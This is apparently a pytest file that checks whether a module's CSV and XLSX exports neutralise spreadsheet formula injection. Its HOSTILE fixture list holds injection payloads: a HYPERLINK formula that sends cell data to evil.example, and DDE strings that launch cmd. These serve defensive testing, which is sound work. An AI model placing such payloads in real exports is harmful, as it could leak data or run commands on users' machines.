"""Exports: a cell that could be a formula is written as text (OWASP "CSV injection")."""

from __future__ import annotations

import csv
from collections.abc import AsyncIterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from care.io import looks_like_formula, neutralise, write_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")',
    '+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "=5",
    "-",
]

KEPT = [
    "Nguyễn Thị Lan",
    "-5",
    "-1.250.000",
    "-3,5",
    "+84912345678",
    "+84 91 234 5678",
    "+84 (91) 234-5678",
    "a=b",
    "",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_could_run_gets_an_apostrophe(text):
    assert looks_like_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", KEPT)
def test_names_plain_numbers_and_phone_numbers_stay_as_written(text):
    assert not looks_like_formula(text)
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [-5, 0, 1_250_000, 2.5, None])
def test_values_that_are_not_text_are_left_alone(value):
    assert neutralise(value) == value


async def rows_of(rows: Sequence[Sequence[Any]]) -> AsyncIterator[Sequence[Any]]:
    for row in rows:
        yield row


TABLE = [[text, -5, "-5", "+84 91 234 5678"] for text in HOSTILE] + [
    ["Nguyễn Thị Lan", -1_250_000, "-1.250.000", "+84912345678"]
]


async def test_an_xlsx_export_holds_no_formula_and_every_text_as_written(tmp_path: Path):
    path = tmp_path / "out.xlsx"

    count = await write_table(path, ["name", "n", "text", "phone"], rows_of(TABLE))

    assert count == len(TABLE)
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    read = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return in text as a line feed: still text, still no formula.
    assert read == [[row[0].replace("\r", "\n"), *row[1:]] for row in TABLE]
    assert [row[1] for row in read] == [-5] * len(HOSTILE) + [-1_250_000]  # numbers, not text
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.quotePrefix for cell in names[: len(HOSTILE)])  # text even when edited
    assert not names[-1].quotePrefix


async def test_a_csv_export_puts_an_apostrophe_before_a_formula_only(tmp_path: Path):
    path = tmp_path / "out.csv"

    await write_table(path, ["name", "n", "text", "phone"], rows_of(TABLE))

    with path.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == ["name", "n", "text", "phone"]
    for (name, number, text, phone), row in zip(TABLE, read[1:], strict=True):
        assert row[0] == ("'" + name if name in HOSTILE else name)
        assert row[1:] == [str(number), text, phone]  # "-5" and "+84 91 234 5678" as they are


async def test_characters_xml_cannot_hold_do_not_break_an_xlsx_export(tmp_path: Path):
    path = tmp_path / "out.xlsx"

    await write_table(path, ["name"], rows_of([["Lan\x00\x07=1"]]))

    assert load_workbook(path).active["A2"].value == "Lan\ufffd\ufffd=1"


async def test_an_export_file_must_be_csv_or_xlsx(tmp_path: Path):
    with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
        await write_table(tmp_path / "out.pdf", ["name"], rows_of([]))
